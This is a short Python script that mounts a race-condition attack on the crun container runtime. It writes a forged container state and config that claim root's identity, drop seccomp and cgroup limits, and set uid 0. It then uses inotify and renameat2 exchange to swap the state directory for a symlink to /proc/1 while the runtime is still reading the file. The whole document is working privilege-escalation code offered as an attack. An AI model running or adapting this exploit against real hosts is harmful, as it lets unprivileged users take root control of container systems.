# A user's attempt to have his own words taken for root's: he makes up a state, and while it is read he swaps its directory with a link to a directory
# in which root owns a file of that name.
#
#   swap-state.py ROOT REAL FORGED BUNDLE PID START PATH
#
# ROOT is his crun's state directory, REAL the container there that he copies, FORGED a container of Docker's that he claims to be, BUNDLE
# that one's, PID and START the process that he claims as its first one, PATH where programs of his are found.

import ctypes
import json
import os
import sys
import time

RENAMEAT2, CURRENT_DIRECTORY, EXCHANGE, OPENED = 316, -100, 2, 0x20

root, real, forged, bundle, pid, start, path = sys.argv[1:]
libc = ctypes.CDLL(None, use_errno=True)
directory, link = f'{root}/{forged}', f'{root}/../link-of-{forged}'

with open(f'{root}/{real}/status') as status, open(f'{root}/{real}/config.json') as spec:
    state, spec = json.load(status), json.load(spec)
state['pid'], state['process-start-time'] = int(pid), int(start)
state['bundle'] = bundle
state['cgroup-path'] = state['scope'] = ''
spec['process'].update(env=[f'PATH={path}:/bin'], cwd='/', user={'uid': 0, 'gid': 0})
spec['linux'].pop('seccomp', None)
spec['linux'].pop('cgroupsPath', None)
spec['linux']['namespaces'] = [{'type': 'mount'}, {'type': 'pid'}]

os.makedirs(directory)
with open(f'{directory}/config.json', 'w') as file:
    json.dump(spec, file)
with open(f'{directory}/status', 'w') as file:
    # Long enough for its reader to be busy with it.
    file.write(json.dumps(state) + ' ' * 7_900_000)
os.symlink('/proc/1', link)

watch = libc.inotify_init()
libc.inotify_add_watch(watch, f'{directory}/status'.encode(), OPENED)


def swap():
    return libc.syscall(RENAMEAT2, CURRENT_DIRECTORY, directory.encode(), CURRENT_DIRECTORY, link.encode(), EXCHANGE)


print('ready', flush=True)
os.read(watch, 4096)
swapped = swap()
time.sleep(0.012)
print('swapped', swapped, swap(), flush=True)
